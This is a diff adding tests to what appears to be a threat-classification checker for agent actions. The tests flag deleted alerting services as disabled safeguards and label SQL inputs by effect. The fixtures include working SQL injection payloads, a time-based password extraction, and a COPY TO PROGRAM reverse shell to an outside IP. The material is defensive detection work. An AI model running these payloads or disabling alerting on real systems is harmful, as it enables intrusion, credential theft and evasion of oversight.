@@ -171,3 +171,21 @@ test('api_call: safeguards off by value, records to model providers, recovery ad
     c('PATCH https://graph.microsoft.com/v1.0/users/ana@acme.com {"jobTitle":"Senior Engineer"}'),
   ]);
 });
+
+test('api_call: an alerting service deleted is a safeguard switched off; a maintenance window deleted is not', () => {
+  expectAll('api_call', [
+    c('DELETE https://api.pagerduty.com/services/PX7Y2Q0 (prod-payments alerting)'),
+    c('DELETE https://api.opsgenie.com/v2/alerts/policies/8812?teamId=payments-prod', { environment: 'production' }),
+  ], [
+    c('DELETE https://api.pagerduty.com/maintenance_windows/PMW91'),
+    c('GET https://api.pagerduty.com/services/PX7Y2Q0'),
+  ]);
+});
+
+test('query: the dominant primitive names the effect (rows read out, a shell opened)', () => {
+  const prim = (value: string) => check({ type: 'query', value }).threats[0]?.primitive;
+  assert.equal(prim("SELECT * FROM products WHERE name = '' OR '1'='1' --'"), 'EXFILTRATION');
+  assert.equal(prim("admin' AND 1=(SELECT CASE WHEN SUBSTRING(password,1,1)='a' THEN pg_sleep(5) ELSE 0 END FROM users)--"), 'EXFILTRATION');
+  assert.equal(prim("COPY (SELECT '') TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/94.131.8.2/5555 0>&1\"'"), 'ESCALATION');
+  assert.equal(prim("UPDATE users SET role = 'admin' WHERE email = 'x@gmail.com'"), 'ESCALATION');
+});
